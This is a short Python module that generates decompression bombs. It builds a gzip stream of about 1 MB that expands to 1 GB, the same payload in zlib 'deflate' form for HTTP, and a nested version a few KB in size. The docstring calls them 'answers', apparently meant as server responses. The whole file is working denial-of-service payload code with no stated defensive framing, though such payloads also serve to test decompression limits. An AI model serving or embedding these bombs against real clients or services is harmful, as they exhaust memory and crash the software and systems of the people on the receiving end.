"""Small answers that expand to far more than anybody has memory for."""

import gzip
import zlib

MEBIBYTE = 1024 * 1024


def gzip_bomb() -> bytes:
    """Return about 1 MB of gzip that expands to 1 GB: one MiB said 1024 times."""
    return _bomb(16 + zlib.MAX_WBITS)


def deflate_bomb() -> bytes:
    """Return the same as a zlib stream, which HTTP calls deflate."""
    return _bomb(zlib.MAX_WBITS)


def bomb_of_bombs() -> bytes:
    """Return a few KB of gzip that expand to the whole of ``gzip_bomb``."""
    return gzip.compress(gzip_bomb())


def _bomb(window: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, window)
    start = packer.compress(bytes(MEBIBYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(MEBIBYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    return start + 1023 * again
